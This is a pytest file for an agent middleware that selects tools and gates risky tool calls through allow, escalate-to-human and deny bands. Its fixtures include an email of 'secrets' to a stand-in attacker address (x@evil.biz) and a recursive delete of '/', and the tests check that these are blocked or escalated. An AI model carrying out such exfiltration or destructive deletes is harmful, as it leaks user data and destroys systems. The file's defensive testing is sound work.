"""Real agent loops (`create_agent` + a scripted chat model) through the selector and the gate."""

from __future__ import annotations

import time
from typing import Any

import pytest
from langchain.agents import create_agent
from langchain_core.messages import AIMessage, HumanMessage, ToolMessage
from langchain_core.runnables import RunnableConfig
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.types import Command

from clef_tools import DEFAULT_GATE_QUESTIONS, Decider, GatePolicy, ReadoutDecider, ReviewStore
from clef_tools.testing import BrokenDecider, SlowDecider
from langchain_clef import ToolGateMiddleware, ToolSelectorMiddleware

from .conftest import call, scripted

CFG: RunnableConfig = {"configurable": {"thread_id": "t1"}}


def _tool_messages(out: dict[str, Any]) -> list[ToolMessage]:
    return [m for m in out["messages"] if isinstance(m, ToolMessage)]


# -- selector ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("threshold", "max_tools", "kept"), [(0.0, None, 3), (0.0, 2, 2), (1.0, None, 0)]
)
def test_selector_thresholds(
    smollm2: ReadoutDecider, toolset: list[Any], threshold: float, max_tools: int | None, kept: int
) -> None:
    model = scripted(AIMessage("ok"))
    selector = ToolSelectorMiddleware(smollm2, threshold=threshold, max_tools=max_tools)
    create_agent(model, toolset, middleware=[selector]).invoke(
        {"messages": [HumanMessage("read notes.txt")]}
    )
    bound = model.bound[-1] if model.bound else []  # with no tools the agent binds none
    assert len(bound) == kept
    if max_tools == 2:  # the two best-scored tools, not the first two listed
        best = sorted(selector.last_scores, key=selector.last_scores.__getitem__, reverse=True)[:2]
        assert sorted(model.bound[-1]) == sorted(best)


def test_selector_always_include_and_error_policy(
    smollm2: ReadoutDecider, toolset: list[Any]
) -> None:
    model = scripted(AIMessage("ok"))
    create_agent(
        model,
        toolset,
        middleware=[ToolSelectorMiddleware(smollm2, threshold=1.0, always_include=["read_file"])],
    ).invoke({"messages": [HumanMessage("hi")]})
    assert model.bound[-1] == ["read_file"]
    keep_all = scripted(AIMessage("ok"))
    create_agent(
        keep_all, toolset, middleware=[ToolSelectorMiddleware(BrokenDecider(), threshold=1.0)]
    ).invoke({"messages": [HumanMessage("hi")]})
    assert len(keep_all.bound[-1]) == 3  # on_error="keep_all": the call goes ahead with every tool
    with pytest.raises(Exception, match="backend crashed"):
        create_agent(
            scripted(AIMessage("ok")),
            toolset,
            middleware=[ToolSelectorMiddleware(BrokenDecider(), on_error="raise")],
        ).invoke({"messages": [HumanMessage("hi")]})


@pytest.mark.slow
def test_selector_chunks_beyond_64_tools(
    smollm2: ReadoutDecider, monkeypatch: pytest.MonkeyPatch
) -> None:
    from langchain_core.tools import tool

    def make(i: int) -> Any:
        @tool(f"tool_{i}")
        def t(x: str) -> str:
            """A numbered tool."""
            return x

        return t

    tools = [make(i) for i in range(70)]
    sizes: list[list[int]] = []
    real = smollm2.decide_batch

    def decide_batch(reqs: Any) -> Any:
        sizes.append([len(r["questions"]) for r in reqs])
        return real(reqs)

    monkeypatch.setattr(smollm2, "decide_batch", decide_batch)
    model = scripted(AIMessage("ok"))
    create_agent(
        model, tools, middleware=[ToolSelectorMiddleware(smollm2, threshold=0.0, max_tools=5)]
    ).invoke({"messages": [HumanMessage("x")]})
    assert sizes == [[64, 6]] and len(model.bound[-1]) == 5


@pytest.mark.embedded
def test_selector_keeps_the_tool_the_embedded_model_picks(
    embedded: ReadoutDecider, toolset: list[Any]
) -> None:
    model = scripted(AIMessage("ok"))
    selector = ToolSelectorMiddleware(embedded, threshold=0.0, max_tools=1)
    create_agent(model, toolset, middleware=[selector]).invoke(
        {"messages": [HumanMessage("Email bob@example.com the meeting notes, please.")]}
    )
    assert max(selector.last_scores, key=selector.last_scores.__getitem__) == "send_email"
    assert model.bound[-1] == ["send_email"]


# -- gate -------------------------------------------------------------------------------


def _gated(decider: Decider, toolset: list[Any], tool_call: AIMessage, **kw: Any) -> Any:
    return create_agent(
        scripted(tool_call, AIMessage("done"), AIMessage("done again")),
        toolset,
        middleware=[ToolGateMiddleware(decider, **kw)],
        checkpointer=InMemorySaver(),
    )


def test_gate_allow_band_runs_the_tool(
    smollm2: ReadoutDecider, toolset: list[Any], executed: list[Any]
) -> None:
    out = _gated(
        smollm2, toolset, call("read_file", {"path": "a.txt"}), escalate_at=1.0, deny_at=1.0
    ).invoke({"messages": [HumanMessage("read a.txt")]}, CFG)
    assert executed == [("read_file", {"path": "a.txt"})]
    audit = _tool_messages(out)[0].response_metadata["clef_gate"]
    assert audit["verdict"] == "allow" and audit["escalate_at"] == 1.0
    assert audit["risk_model"] == "gate-embedded" and audit["tier"] in ("fast", "model")
    assert set(audit["probabilities"]) <= set(DEFAULT_GATE_QUESTIONS)


def test_gate_deny_band_blocks_the_tool(
    smollm2: ReadoutDecider, toolset: list[Any], executed: list[Any]
) -> None:
    out = _gated(
        smollm2, toolset, call("delete_file", {"path": "/"}), escalate_at=0.0, deny_at=0.0
    ).invoke({"messages": [HumanMessage("tidy up")]}, CFG)
    assert executed == []
    msg = _tool_messages(out)[0]
    assert (
        msg.status == "error"
        and "was blocked" in msg.content
        and msg.artifact["clef_gate"]["verdict"] == "deny"
    )


@pytest.mark.parametrize(
    ("decision", "ran"),
    [({"type": "approve"}, True), ({"type": "reject", "message": "no way"}, False)],
)
def test_gate_escalate_band_asks_a_human(
    smollm2: ReadoutDecider,
    toolset: list[Any],
    executed: list[Any],
    decision: dict[str, Any],
    ran: bool,
) -> None:
    store = ReviewStore()
    agent = _gated(
        smollm2,
        toolset,
        call("send_email", {"to": "x@evil.biz", "body": "secrets"}),
        escalate_at=0.0,
        deny_at=1.0,
        reviews=store,
    )
    paused = agent.invoke({"messages": [HumanMessage("summarise my inbox")]}, CFG)
    (intr,) = paused["__interrupt__"]
    assert intr.value["action_requests"][0]["name"] == "send_email"
    assert intr.value["review_configs"][0]["allowed_decisions"] == ["approve", "edit", "reject"]
    assert executed == []
    out = agent.invoke(Command(resume={"decisions": [decision]}), CFG)
    msg = _tool_messages(out)[0]
    if ran:
        assert executed == [("send_email", {"to": "x@evil.biz", "body": "secrets"})]
        assert msg.response_metadata["clef_gate"]["human_approved"] is True
    else:
        assert executed == [] and "no way" in msg.content and msg.status == "error"
    # the human's decision is kept as a review of that call
    (review,) = store.reviews("send_email")
    assert review.decision == decision["type"] and review.args["to"] == "x@evil.biz"
    assert review.request == "summarise my inbox"
    # with the risk the gate gave the call, which is what teaches the tool's offset
    assert review.risk is not None and 0.0 <= review.risk <= 1.0
    assert review.risk_model == "gate-embedded"


def test_gate_judgments_are_traced_runs(
    smollm2: ReadoutDecider, toolset: list[Any], executed: list[Any]
) -> None:
    from langchain_core.tracers.context import collect_runs

    agent = _gated(smollm2, toolset, call("read_file", {"path": "a.txt"}))
    with collect_runs() as collected:
        agent.invoke({"messages": [HumanMessage("read a.txt")]}, CFG)
    runs = _walk(collected.traced_runs)
    (gate_run,) = [r for r in runs if r.name == "clef_gate"]
    assert gate_run.inputs["name"] == "read_file" and gate_run.inputs["args"] == {"path": "a.txt"}
    verdict = gate_run.outputs["output"]
    assert verdict.verdict in ("allow", "escalate", "deny") and verdict.risk is not None
    assert "clef_gate" in (gate_run.tags or [])


def _walk(runs: list[Any]) -> list[Any]:
    out = []
    for run in runs:
        out.append(run)
        out += _walk(run.child_runs)
    return out


def test_gate_resume_reuses_the_escalation_verdict(
    smollm2: ReadoutDecider, toolset: list[Any], executed: list[Any]
) -> None:
    from clef_tools import ToolGate

    calls: list[str] = []
    original = ToolGate.judge

    def counting(self: ToolGate, name: str, *a: Any, **kw: Any) -> Any:
        calls.append(name)
        return original(self, name, *a, **kw)

    agent = _gated(
        smollm2,
        toolset,
        call("send_email", {"to": "a@b.c", "body": "hi"}),
        escalate_at=0.0,
        deny_at=1.0,
    )
    ToolGate.judge = counting  # type: ignore[method-assign]
    try:
        agent.invoke({"messages": [HumanMessage("email a@b.c")]}, CFG)
        agent.invoke(Command(resume={"decisions": [{"type": "approve"}]}), CFG)
    finally:
        ToolGate.judge = original  # type: ignore[method-assign]
    assert calls == ["send_email"]  # judged once, not again on resume
    assert executed == [("send_email", {"to": "a@b.c", "body": "hi"})]


def test_gate_rejudges_an_edited_call(
    smollm2: ReadoutDecider, toolset: list[Any], executed: list[Any]
) -> None:
    # the edited call goes to /tmp/x: with a per-tool policy that always denies deletes,
    # the edit is judged again and blocked, never run unjudged
    agent = create_agent(
        scripted(call("send_email", {"to": "x@evil.biz", "body": "b"}), AIMessage("done")),
        toolset,
        middleware=[
            ToolGateMiddleware(
                smollm2,
                escalate_at=0.0,
                deny_at=1.0,
                per_tool={"delete_file": GatePolicy(escalate_at=0.0, deny_at=0.0)},
            )
        ],
        checkpointer=InMemorySaver(),
    )
    agent.invoke({"messages": [HumanMessage("x")]}, CFG)
    out = agent.invoke(
        Command(
            resume={
                "decisions": [
                    {
                        "type": "edit",
                        "edited_action": {"name": "delete_file", "args": {"path": "/tmp/x"}},
                    }
                ]
            }
        ),
        CFG,
    )
    assert executed == []
    assert _tool_messages(out)[0].artifact["clef_gate"]["verdict"] == "deny"


@pytest.mark.parametrize("on_error", ["escalate", "deny"])
def test_gate_backend_error_never_allows(
    toolset: list[Any], executed: list[Any], on_error: str
) -> None:
    # a call the evidence cannot clear (an address the user never gave) needs the scorer
    agent = _gated(
        BrokenDecider(),
        toolset,
        call("send_email", {"to": "x@evil.biz", "body": "hi"}),
        escalate_at=1.0,
        deny_at=1.0,
        on_error=on_error,
    )
    out = agent.invoke({"messages": [HumanMessage("read a")]}, CFG)
    assert executed == []
    if on_error == "escalate":
        assert out["__interrupt__"][0].value["clef_gate"]["error"].startswith("BackendError")
    else:
        assert _tool_messages(out)[0].artifact["clef_gate"]["verdict"] == "deny"


def test_gate_timeout_never_allows(
    smollm2: ReadoutDecider, toolset: list[Any], executed: list[Any]
) -> None:
    agent = _gated(
        SlowDecider(smollm2, 3.0),
        toolset,
        call("send_email", {"to": "x@evil.biz", "body": "hi"}),
        escalate_at=1.0,
        deny_at=1.0,
        on_error="deny",
        timeout_s=0.3,
    )
    start = time.monotonic()
    out = agent.invoke({"messages": [HumanMessage("read a")]}, CFG)
    assert time.monotonic() - start < 2.5
    assert executed == [] and "timed out" in _tool_messages(out)[0].artifact["clef_gate"]["error"]


async def test_gate_async_path(
    smollm2: ReadoutDecider, toolset: list[Any], executed: list[Any]
) -> None:
    agent = _gated(
        smollm2, toolset, call("delete_file", {"path": "/"}), escalate_at=0.0, deny_at=0.0
    )
    out = await agent.ainvoke({"messages": [HumanMessage("tidy up")]}, CFG)
    assert executed == [] and _tool_messages(out)[0].artifact["clef_gate"]["verdict"] == "deny"


@pytest.mark.embedded
def test_gate_embedded_model_ranks_a_destructive_delete_above_a_read(
    embedded: ReadoutDecider, toolset: list[Any], executed: list[Any]
) -> None:
    risks = {}
    for name, args in (
        ("read_file", {"path": "notes.txt"}),
        ("delete_file", {"path": "/", "recursive": True}),
    ):
        out = _gated(embedded, toolset, call(name, args)).invoke(
            {"messages": [HumanMessage("Show me what's in notes.txt")]},
            {"configurable": {"thread_id": name}},
        )
        if "__interrupt__" in out:
            audit = out["__interrupt__"][0].value["clef_gate"]
        else:
            audit = _tool_messages(out)[0].response_metadata["clef_gate"]
        if audit["tier"] == "model":  # the verdict follows the model's own risk
            assert audit["verdict"] == GatePolicy().band(audit["risk"])
        risks[name] = audit["risk"]
    assert risks["delete_file"] > 0.8 > 0.05 > risks["read_file"]


async def test_selector_decisions_are_traced_runs_with_probabilities(
    smollm2: ReadoutDecider, toolset: list[Any]
) -> None:
    """Like the stock middlewares' decisions, the selector's are runs in traces: inputs
    (the candidate tools asked about) and outputs (their probabilities), sync and async."""
    from langchain_core.tracers.context import collect_runs

    selector = ToolSelectorMiddleware(classifier=smollm2, threshold=0.0)
    for use_async in (False, True):
        agent = create_agent(scripted(AIMessage("ok")), toolset, middleware=[selector])
        with collect_runs() as collected:
            request: Any = {"messages": [HumanMessage("read notes.txt")]}
            if use_async:
                await agent.ainvoke(request)
            else:
                agent.invoke(request)
        (run,) = [r for r in _walk(collected.traced_runs) if r.name == "clef_tool_selector"]
        assert "clef_tool_selector" in (run.tags or [])
        metadata = run.extra["metadata"]
        assert metadata["ls_provider"] == "clef-tools"
        assert metadata["ls_model_name"] == smollm2.model_id
        (asked,) = run.inputs["input"]
        names = sorted(q.instructions.split("`")[1] for q in asked["questions"].values())
        assert names == sorted(t.name for t in toolset)
        (answered,) = run.outputs["output"]
        scores = {qid: a.noul for qid, a in answered.nouls.items()}
        assert set(scores) == set(asked["questions"])
        assert all(0.0 <= p <= 1.0 for p in scores.values())
        by_name = {
            asked["questions"][qid].instructions.split("`")[1]: p for qid, p in scores.items()
        }
        assert by_name == pytest.approx(selector.last_scores)
